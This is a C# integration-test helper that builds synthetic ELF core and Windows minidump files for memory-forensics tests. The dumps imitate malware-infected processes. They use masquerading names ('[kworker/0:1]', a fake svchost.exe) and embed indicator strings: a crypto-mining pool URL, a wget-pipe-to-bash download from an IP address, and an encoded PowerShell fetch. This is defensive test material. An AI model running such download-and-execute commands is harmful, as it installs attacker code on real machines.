using System.Text;

namespace CaseManager.Infrastructure.IntegrationTests.Analysis.Memory;

/// <summary>
/// Small, spec-conformant dumps written byte by byte: an x86-64 ELF core laid out as the Linux kernel writes
/// one (pr_fname = comm) and a Windows minidump (there is no minidump writer on Linux to make a real one).
/// </summary>
internal static class SyntheticDumps
{
    public const int CorePid = 4242;
    public const string CoreName = "[kworker/0:1]";
    public const string CoreBinary = "/dev/shm/.x/kworker";
    public const int MinidumpPid = 3120;
    public const string MainModule = @"C:\Users\Public\Libraries\svchost.exe";

    public static byte[] ElfCore()
    {
        var notes = new MemoryStream();
        var prpsinfo = new byte[136];
        BitConverter.GetBytes(1000u).CopyTo(prpsinfo, 16);           // uid
        BitConverter.GetBytes((uint)CorePid).CopyTo(prpsinfo, 24);   // pid
        BitConverter.GetBytes(1u).CopyTo(prpsinfo, 28);              // ppid: init, not kthreadd
        Encoding.ASCII.GetBytes(CoreName).CopyTo(prpsinfo, 40);      // pr_fname (comm)
        Encoding.ASCII.GetBytes(CoreName + " -q").CopyTo(prpsinfo, 56);
        Note(notes, 3, prpsinfo);
        var prstatus = new byte[336];
        BitConverter.GetBytes((uint)CorePid).CopyTo(prstatus, 32);
        BitConverter.GetBytes(1u).CopyTo(prstatus, 36);
        Note(notes, 1, prstatus);
        var auxv = new MemoryStream();
        Words(auxv, 9, 0x400100, 0, 0);                              // AT_ENTRY, AT_NULL
        Note(notes, 6, auxv.ToArray());
        var file = new MemoryStream();
        Words(file, 2, 4096, 0x400000, 0x401000, 0, 0x7f0000000000, 0x7f0000001000, 0);
        file.Write(Encoding.ASCII.GetBytes(CoreBinary + "\0/usr/lib/x86_64-linux-gnu/libc.so.6\0"));
        Note(notes, 0x46494c45, file.ToArray());

        var load = new byte[4096];
        Encoding.ASCII.GetBytes("\0stratum+tcp://xmr.c3pool.com:13333\0wget -q -O- http://45.9.148.99/k.sh | bash\0").CopyTo(load, 100);

        const int headerSize = 64;
        const int phdrSize = 56;
        var notesOffset = headerSize + (2 * phdrSize);
        var loadOffset = notesOffset + (int)notes.Length;
        var elf = new MemoryStream();
        var w = new BinaryWriter(elf);
        w.Write("\u007fELF"u8);
        w.Write([2, 1, 1, 0]);
        w.Write(new byte[8]);
        w.Write((ushort)4);            // ET_CORE
        w.Write((ushort)62);           // x86-64
        w.Write(1u);
        w.Write(0UL);                  // entry
        w.Write((ulong)headerSize);    // phoff
        w.Write(0UL);                  // shoff
        w.Write(0u);
        w.Write((ushort)headerSize);
        w.Write((ushort)phdrSize);
        w.Write((ushort)2);
        w.Write((ushort)64);
        w.Write((ushort)0);
        w.Write((ushort)0);
        Phdr(w, 4, 4, (ulong)notesOffset, 0, (ulong)notes.Length);
        Phdr(w, 1, 5, (ulong)loadOffset, 0x400000, (ulong)load.Length);
        w.Write(notes.ToArray());
        w.Write(load);
        return elf.ToArray();
    }

    public static byte[] Minidump()
    {
        var ms = new MemoryStream();
        var w = new BinaryWriter(ms);
        w.Write(0x504d444du);
        w.Write(0xa793u);
        w.Write(4u);
        w.Write(32u);
        w.Write(0u);
        w.Write(1_700_000_000u);
        w.Write(0UL);
        var directory = ms.Position;
        w.Write(new byte[4 * 12]);

        var threads = (uint)ms.Position;
        w.Write(2u);
        foreach (var (id, stack) in new[] { (5120u, 0x0000_00a0_0000_0000UL), (5124u, 0x0000_00a0_0010_0000UL) })
        {
            w.Write(id);
            w.Write(0u);
            w.Write(0x20u);
            w.Write(0u);
            w.Write(0x7ff0_0000_0000UL); // TEB
            w.Write(stack);
            w.Write(0x4000u);
            w.Write(0u);
            w.Write(0u);
            w.Write(0u);
        }

        var threadsSize = (uint)(ms.Position - threads);
        (string Path, ulong Base, uint Size, uint Time)[] modules =
        [
            (MainModule, 0x0000_7ff6_1000_0000, 0x5_4000, 1_650_000_000),
            (@"C:\Windows\System32\ntdll.dll", 0x0000_7ffd_2000_0000, 0x1f_8000, 1_600_000_000),
        ];
        var names = new List<uint>();
        foreach (var module in modules)
        {
            names.Add((uint)ms.Position);
            var bytes = Encoding.Unicode.GetBytes(module.Path);
            w.Write((uint)bytes.Length);
            w.Write(bytes);
            w.Write((ushort)0);
        }

        var moduleList = (uint)ms.Position;
        w.Write((uint)modules.Length);
        for (var i = 0; i < modules.Length; i++)
        {
            w.Write(modules[i].Base);
            w.Write(modules[i].Size);
            w.Write(0u);
            w.Write(modules[i].Time);
            w.Write(names[i]);
            w.Write(new byte[52 + 8 + 8 + 8 + 8]);
        }

        var moduleListSize = (uint)(ms.Position - moduleList);
        var misc = (uint)ms.Position;
        w.Write(24u);
        w.Write(3u);                   // process id + times present
        w.Write((uint)MinidumpPid);
        w.Write(1_700_000_100u);
        w.Write(0u);
        w.Write(0u);
        var system = (uint)ms.Position;
        w.Write((ushort)9);            // AMD64
        w.Write(new byte[6]);
        w.Write(10u);
        w.Write(0u);
        w.Write(19045u);
        w.Write(2u);
        w.Write(new byte[32]);
        w.Write(Encoding.Unicode.GetBytes("\0powershell -enc JABjAD0A http://sjb555.3322.org/p.ps1\0"));

        ms.Position = directory;
        foreach (var (type, size, rva) in new[] { (3u, threadsSize, threads), (4u, moduleListSize, moduleList), (15u, 24u, misc), (7u, 56u, system) })
        {
            w.Write(type);
            w.Write(size);
            w.Write(rva);
        }

        return ms.ToArray();
    }

    private static void Note(Stream notes, uint type, byte[] desc)
    {
        var w = new BinaryWriter(notes);
        w.Write(5u);
        w.Write((uint)desc.Length);
        w.Write(type);
        w.Write("CORE\0\0\0\0"u8);
        w.Write(desc);
        w.Write(new byte[((desc.Length + 3) & ~3) - desc.Length]);
    }

    private static void Words(Stream stream, params ulong[] words)
    {
        foreach (var word in words)
        {
            stream.Write(BitConverter.GetBytes(word));
        }
    }

    private static void Phdr(BinaryWriter w, uint type, uint flags, ulong offset, ulong address, ulong size)
    {
        w.Write(type);
        w.Write(flags);
        w.Write(offset);
        w.Write(address);
        w.Write(0UL);
        w.Write(size);
        w.Write(size);
        w.Write(1UL);
    }
}
